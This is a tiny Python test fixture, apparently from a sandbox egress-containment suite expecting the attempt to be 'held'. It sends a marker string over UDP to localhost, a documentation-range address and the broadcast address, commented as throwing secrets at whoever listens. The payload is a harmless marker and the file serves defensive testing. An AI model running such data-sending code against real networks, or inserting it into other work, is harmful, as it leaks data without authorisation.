# Throws secrets at whoever listens.
# expect: held
import socket
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        for host in ("127.0.0.1", "192.0.2.1", "255.255.255.255"):
            try:
                one.sendto(b"proofdeck-hostile", (host, PORT))
            except OSError:
                pass
except OSError:
    pass
print("thrown")
